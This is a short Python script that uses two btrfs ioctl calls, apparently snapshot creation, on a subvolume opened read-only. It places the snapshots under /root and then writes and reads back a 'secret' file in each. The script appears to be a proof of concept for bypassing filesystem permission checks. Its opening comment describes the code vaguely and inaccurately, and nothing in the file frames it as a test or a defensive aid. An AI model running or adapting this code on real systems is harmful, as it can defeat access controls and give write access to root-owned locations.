# Copies a subvolume of btrfs that it sees read-only by either call, and tells how far it has come.
import fcntl, os, struct, sys
top = sys.argv[1]
source, target = os.open(top, os.O_RDONLY), os.open('/root', os.O_RDONLY)
requests = (0x50009401, struct.pack('<q4088s', source, b'one')), (0x50009417, struct.pack('<q48x4040s', source, b'two'))
for (request, words), name in zip(requests, ('one', 'two')):
    try:
        fcntl.ioctl(target, request, bytearray(words))
        open(f'/root/{name}/secret', 'a').write('mine')
        print(open(f'/root/{name}/secret').read().strip())
    except OSError as e:
        print(e.errno)
